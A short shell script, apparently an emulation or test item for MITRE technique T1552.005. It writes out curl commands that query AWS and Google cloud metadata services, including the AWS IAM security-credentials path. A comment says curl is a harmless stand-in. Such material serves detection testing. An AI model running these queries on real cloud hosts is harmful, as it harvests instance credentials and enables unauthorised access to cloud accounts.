#!/bin/sh
# Cloud instance metadata (T1552.005), shown by command lines only: /usr/bin/curl here is a
# stand-in that opens no socket, so nothing is ever sent to 169.254.169.254.
/usr/bin/curl -s http://169.254.169.254/latest/meta-data/
/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
/usr/bin/curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/project/project-id
echo "[corpus] metadata done"
